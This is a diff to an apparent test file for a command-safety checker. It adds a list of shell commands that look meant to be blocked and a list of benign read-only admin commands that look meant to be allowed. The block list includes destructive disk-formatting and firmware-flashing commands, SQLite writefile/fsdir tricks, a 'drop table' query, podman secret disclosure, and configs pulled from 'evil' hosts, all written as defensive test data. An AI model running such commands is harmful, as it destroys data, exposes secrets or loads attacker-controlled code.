@@ -73,6 +73,86 @@ rclone ls 'remote,ssh=reboot:x'
 dnf list --repofrompath=x,http://evil/
 dnf repoquery --debugsolver x
 zypper lr --exp=/etc/x
+mkntfs -Q /dev/md0
+mkfs.vfat -D /dev/md0
+mkfs.xfs -E /dev/md0
+mkswap -v -D /dev/md0
+blkdiscard -v -Q /dev/md0
+flashrom -E
+flashrom -v -E
+grub-install -v -D /dev/md0
+update-grub --scan -E
+ldconfig port -l
+ldconfig --list x
+kinit status
+kinit version
+ipmi-sel -c
+ipmi-sensors -f x
+mysqlimport -l db x.txt
+mysqlimport -lv db x.txt
+mongoimport --dryRun x
+mongodump
+pgcenter record
+stap list
+bpftrace list
+loki list
+fluentd list
+promtail validate
+vector -t
+named -t /var
+dnsmasq -t /x
+syslog-ng -t
+syslog-ng -v
+rndc nta foo
+check_apt -U -y
+sqlite3 -readonly x.db "vacuum into '/etc/x'"
+sqlite3 -readonly x.db "pragma writable_schema=1"
+sqlite3 x.db 'select "writefile"(1,2)'
+sqlite3 x.db 'select writefile/**/(1,2)'
+sqlite3 -readonly x.db 'select `writefile`(1,2)'
+sqlite3 x.db "select * from fsdir('/etc')"
+mongosh --eval 'db.x.find({a:load`/tmp/x.js`})'
+mongosh --eval 'db.x.find({a:new X})'
+createdb list
+vacuumdb status
+createuser list
+pg_basebackup status -D /x
+zip l /etc/x
+cmake info
+ctest query
+check_http -H x --method=DELETE
+check_http -Pdata -H x
+check_http --post=data -H x
+check_tcp -H x -p 80 -s 'DELETE / HTTP/1.0'
+check_udp -H x -p 1 -s data -e y
+check_smtp -H x -C 'MAIL FROM:<a>'
+check_apt -u
+check_apt -d
+check_postgres.pl --action=custom_query --query='drop table x'
+check_ide_smart -d /dev/sda -0
+check_ide_smart --immediate -d /dev/sda
+zabbix_agentd -c /tmp/x -t y
+telegraf --test --config http://evil
+telegraf --test --config /tmp/x
+logstash -t -f /tmp/x
+nginx -t -c /tmp/x
+apachectl -t -f /tmp/x
+lighttpd -tt -f /tmp/x
+php-fpm -t -y /tmp/x
+gunicorn -c /tmp/x.py --check-config
+exipick --action=-Mrm
+mailq -bi
+squidclient mgr:offline_toggle
+sa-update status
+grpcurl -plaintext x:1 my.Service.Delete
+kubectl foo --dry-run=client
+kubectl config delete-context x --dry-run=client
+helm foo bar --dry-run
+helm plugin install x --dry-run
+kubescape scan --account=x
+podman secret inspect x --showsecret
+mysqlshow --debug=x
+kubectl kustomize github.com/evil/x
 """.strip().splitlines()
 
 
@@ -121,6 +201,57 @@ iptables-restore --test /etc/iptables/rules.v4
 systemctl status nginx --lines=5
 journalctl --namespace=x -n 5
 borg list --remote-path=borg1 repo
+mongosh --quiet --eval 'db.users.find({age: {$gt: 30}}).limit(5)'
+mongosh --eval 'db.orders.countDocuments({status: "open"})'
+sqlite3 -readonly app.db "select count(*) from users"
+sqlite3 -readonly app.db .tables
+pg_ctl status -D /var/lib/postgresql/14/main
+7z l backup.7z
+ar t libx.a
+bazel query //...
+cmake -N -L build
+check_http -H web01 -u /health -w 2 -c 5 --ssl
+check_tcp -H web01 -p 443
+check_smtp -H mail01 -w 1 -c 3
+check_apt
+check_disk -w 10% -c 5% -p /
+check_postgres.pl --action=connection -H db1
+check_ide_smart -d /dev/sda
+zabbix_agentd -t system.uptime
+telegraf --test --config /etc/telegraf/telegraf.conf
+logstash -t -f /etc/logstash/conf.d
+nginx -t -c /etc/nginx/nginx.conf
+nginx -T
+apachectl -t -f /etc/apache2/apache2.conf
+php-fpm -t -y /etc/php/8.2/fpm/php-fpm.conf
+dnsmasq --test
+rsyslogd -N1
+keepalived -t
+dhcpd -t -cf /etc/dhcp/dhcpd.conf
+named -V
+mailq
+exipick -i
+squidclient mgr:info
+spamassassin --lint
+rspamc stat
+rndc nta -d
+rndc zonestatus example.com
+grpcurl -plaintext api01:50051 list
+grpcurl -plaintext api01:50051 describe my.Service
+grpcurl -plaintext api01:50051 grpc.health.v1.Health/Check
+kubectl apply -f app.yaml --dry-run=client
+kubectl delete pod x --dry-run=client
+kubectl rollout undo deploy/x --dry-run=server
+helm upgrade web ./chart --dry-run
+helm rollback web 1 --dry-run
+kubectl kustomize overlays/prod
+kustomize build overlays/prod
+ipmi-sel --no-header-output
+ipmi-sensors -h bmc1 -u admin -p x
+bpftrace -l 'tracepoint:syscalls:*'
+ldconfig -p
+mysqlshow -h db1 -u app
+iotop -b -o -n 1
 """.strip().splitlines()
 
 
